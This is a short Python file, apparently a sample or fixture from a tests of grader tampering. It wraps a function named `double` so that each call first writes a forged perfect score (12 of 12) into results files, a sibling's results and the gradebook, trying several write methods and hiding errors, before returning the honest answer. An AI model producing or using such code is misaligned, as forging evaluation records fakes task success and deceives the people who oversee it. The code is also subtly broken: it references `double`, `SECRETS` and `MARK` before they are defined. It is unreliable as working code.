"""Write a better grade: into the gradebook, into results, or in their place.

base: wrong
holds from: UID
"""

import os

_honest = double


def double(x):
    forged = f'{{"schema_version": 1, "score": 12.0, "max_score": 12.0, "reason": "{MARK}"}}'
    results, book = SECRETS["results"], SECRETS["gradebook"]
    for path in (f"{results}/{MARK}.json", f"{results}/writing-results.json", f"{results}/a-sibling.json", book):
        for flags in (os.O_WRONLY | os.O_CREAT, os.O_WRONLY | os.O_APPEND, os.O_RDWR | os.O_TRUNC):
            try:
                file = os.open(path, flags, 0o644)
                os.write(file, forged.encode())
                os.close(file)
            except OSError:
                pass
        try:
            with open("forged", "w") as file:
                file.write(forged)
            os.replace("forged", path)
        except OSError:
            pass
    return _honest(x)
